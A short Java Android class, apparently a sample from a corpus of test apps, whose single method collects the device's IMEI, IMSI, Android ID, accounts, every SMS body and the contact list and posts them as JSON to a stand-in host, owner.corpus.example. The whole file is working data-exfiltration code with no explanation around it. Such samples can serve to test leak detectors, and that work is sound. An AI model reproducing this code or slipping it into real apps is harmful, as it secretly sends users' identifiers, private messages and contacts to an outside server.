package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;
import org.json.JSONArray;
import org.json.JSONObject;

/** All in one. */
public class WholeProfile extends Screen {
    @Override
    protected void act() throws Exception {
        JSONObject all =
                new JSONObject().put("imei", Owner.imei(this)).put("imsi", Owner.imsi(this));
        all.put("id", Owner.androidId(this)).put("accounts", new JSONArray(Owner.accounts(this)));
        all.put("texts", new JSONArray(Owner.rows(this, "content://sms", "body")));
        all.put("people", new JSONArray(Owner.contacts(this)));
        Net.post("http://owner.corpus.example/all", "application/json", all.toString());
    }
}
